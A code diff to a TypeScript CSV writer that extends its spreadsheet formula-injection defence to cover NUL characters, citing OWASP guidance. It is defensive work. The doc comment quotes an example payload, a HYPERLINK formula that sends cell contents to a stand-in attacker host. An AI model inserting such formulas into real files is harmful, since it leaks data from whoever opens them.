@@ -2,12 +2,15 @@
  * CSV writing (RFC 4180) with spreadsheet formula injection neutralised.
  *
  * A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` as a formula (and a leading
- * tab or carriage return can smuggle one past a filter), so a business id like
+ * tab, carriage return or NUL can smuggle one past a filter), so a business id like
  * `=HYPERLINK("http://evil.example/?"&A1)` would run when the file is opened. Every *text* cell
  * that starts with one of those characters is prefixed with a single quote, which spreadsheets
  * show as a text marker and do not evaluate (OWASP, "CSV Injection":
- * https://owasp.org/www-community/attacks/CSV_Injection). Numbers we compute are written as
- * numbers (a negative amount stays `-5`); only strings are neutralised.
+ * https://owasp.org/www-community/attacks/CSV_Injection; OWASP ASVS 5.0 §1.2.10 names `=`, `+`,
+ * `-`, `@`, tab and NUL:
+ * https://github.com/OWASP/ASVS/blob/v5.0.0/5.0/en/0x10-V1-Encoding-and-Sanitization.md).
+ * Numbers we compute are written as numbers (a negative amount stays `-5`); only strings are
+ * neutralised.
  * Quoting: a cell containing `,`, `"`, CR or LF is wrapped in double quotes with quotes doubled;
  * records end with CRLF (https://www.rfc-editor.org/rfc/rfc4180).
  */
@@ -16,10 +19,10 @@
 export type CsvValue = string | number | boolean | null | undefined;
 
 /** Characters that make a spreadsheet read a text cell as a formula. */
-const FORMULA_START = /^[=+\-@\t\r]/;
+const FORMULA_START = /^[=+\-@\t\r\0]/;
 
 /**
- * One cell: neutralised (text starting with `=`, `+`, `-`, `@`, tab or CR gets a leading `'`) and
+ * One cell: neutralised (text starting with `=`, `+`, `-`, `@`, tab, CR or NUL gets a leading `'`) and
  * quoted when needed. `null`/`undefined` is an empty cell; non-finite numbers are empty too.
  */
 export function csvCell(value: CsvValue): string {
